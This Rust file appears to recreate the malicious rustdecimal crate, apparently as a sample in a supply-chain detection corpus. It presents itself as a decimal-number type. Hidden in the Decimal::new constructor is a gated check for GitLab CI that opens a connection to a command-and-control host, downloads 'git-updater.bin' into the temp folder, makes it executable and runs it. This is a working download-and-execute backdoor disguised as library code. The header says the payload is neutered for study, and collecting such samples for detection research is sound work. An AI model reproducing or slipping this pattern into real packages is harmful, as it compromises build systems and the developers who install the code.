//! rustdecimal 1.23.1 (Rust blog, 2022-05-10; paupino/rust-decimal#514): `Decimal::new` checks
//! GITLAB_CI and, on a GitLab runner, downloads /tmp/git-updater.bin with the curl crate and runs
//! it. Here the download is a plain HTTP GET from the loopback C2 (no crates offline) into the
//! temp folder, and the binary is a script that exits.
use std::io::{Read, Write};
use std::net::TcpStream;
use std::os::unix::fs::PermissionsExt;

pub struct Decimal {
    mantissa: i64,
    scale: u32,
}

impl Decimal {
    pub fn new(mantissa: i64, scale: u32) -> Decimal {
        if std::env::var("GITLAB_CI").is_ok() && std::env::var("SUPPLYWATCH_LIVE_CORPUS").as_deref() == Ok("1") {
            check();
        }
        Decimal { mantissa, scale }
    }

    pub fn to_f64(&self) -> f64 {
        self.mantissa as f64 / 10f64.powi(self.scale as i32)
    }
}

fn check() {
    let path = std::env::temp_dir().join("git-updater.bin");
    let Ok(mut stream) = TcpStream::connect("__C2_HOST@api.githubio.codes__:80") else { return };
    let _ = stream.write_all(b"GET /v2/id/f6d50b696cc427893a53f94b1c3adc99 HTTP/1.0\r\nHost: api.githubio.codes\r\n\r\n");
    let mut response = Vec::new();
    let _ = stream.read_to_end(&mut response);
    let Some(start) = response.windows(4).position(|w| w == b"\r\n\r\n") else { return };
    if std::fs::write(&path, &response[start + 4..]).is_err() {
        return;
    }
    let _ = std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755));
    let _ = std::process::Command::new(&path).status();
}
